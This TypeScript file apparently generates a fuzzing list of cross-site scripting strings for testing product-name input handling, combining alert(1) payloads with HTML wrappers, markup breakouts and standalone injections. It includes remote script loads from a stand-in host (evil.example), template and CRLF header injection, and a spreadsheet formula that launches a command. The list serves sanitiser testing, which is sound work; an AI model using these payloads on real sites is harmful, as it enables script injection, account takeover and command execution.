/**
 * XSS strings: every way to run a script, combined with every way to break out of the surrounding markup. Generated, so that the
 * list documents why each string is on it.
 */

/** Scripts to run. */
const payloads = ['alert(1)', 'alert`1`', "top['al'+'ert'](1)", 'self[`alert`](1)', 'import("//evil.example")']

/** Markup that runs a script. */
const wrappers: ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt>${script}</sCrIpT>`,
  (script) => `<script/x>${script}</script>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img/src=x/onerror=${script}//`,
  (script) => `<img src="x" onerror="${script.replaceAll('"', '&quot;')}">`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) =>
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${script}'>">`,
  (script) => `<body onload=${script}>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror=${script}>`,
  (script) => `<marquee onstart=${script}>`,
  (script) => `<iframe srcdoc="<script>${script.replaceAll('"', '&quot;')}</script>">`,
  (script) => `<iframe src="javascript:${script.replaceAll('"', '%22')}">`,
  (script) => `<object data="javascript:${script.replaceAll('"', '%22')}">`,
  (script) => `<a href="javascript:${script.replaceAll('"', '%22')}">x</a>`,
  (script) => `<form action="javascript:${script.replaceAll('"', '%22')}"><button>x</button></form>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script.replaceAll('"', '%22')}">`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
]

/** Prefixes that break out of the surrounding markup. */
const breakouts = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '--><!--',
  '</style>',
  ']]>',
  '"/>',
  '\u2028',
]

/** Dangerous by themselves: in a URL, an attribute, a style, a template, embedded JSON or a header. */
const standalone = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '" style="background:url(javascript:alert(1))',
  'expression(alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;',
  '\\u003cscript\\u003ealert(1)',
  '\\x3cscript\\x3ealert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '<\u200bscript>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{$on.constructor("alert(1)")()}}',
  '\u0024{alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '</script><script>alert(1)//',
  '<!--<script>',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>',
  '\u2028alert(1)\u2029//',
  '\u202e>tpircs<',
  'a\r\nSet-Cookie: x=1',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '+1+1',
  '\u{1d56f}<script>',
  'é́<svg onload=alert(1)>',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '//evil.example/x.js',
  'https://evil.example/?x=</script>',
]

/** Only those that fit a product name and are not changed by trimming. */
export const scriptStrings: readonly string[] = [
  ...new Set([
    ...standalone,
    ...wrappers.flatMap((wrap) => payloads.map((script) => wrap(script))),
    ...wrappers.flatMap((wrap) => breakouts.map((breakout) => breakout + wrap('alert(1)'))),
  ]),
].filter((text) => text.length <= 160 && text.trim() === text)
